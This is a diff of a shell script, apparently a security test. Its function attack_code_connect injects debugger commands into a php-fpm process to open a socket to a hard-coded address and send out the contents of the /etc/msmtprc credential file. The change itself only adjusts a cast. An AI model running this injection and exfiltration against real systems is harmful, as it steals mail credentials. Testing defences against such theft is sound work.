@@ -373,7 +373,7 @@ attack_code_connect() {
 	# shellcheck disable=SC2016 # the debugger's variables
 	inject_pid "$(tasks_named php 'php-fpm: pool' | head -n 1)" 'set $a = (char *) malloc(256)' \
 		'set {long} $a = 0x0100580a5c110002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
-		'print (int) connect($s, $a, 16)' 'set $f = (int) open("/etc/msmtprc", 0)' \
+		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' 'set $f = (int) open("/etc/msmtprc", 0)' \
 		'print (long) read($f, $a, 250)' 'print (long) write($s, $a, 250)' \
 		'print (int) close($f)' 'print (int) close($s)'
 	thief_got password-of
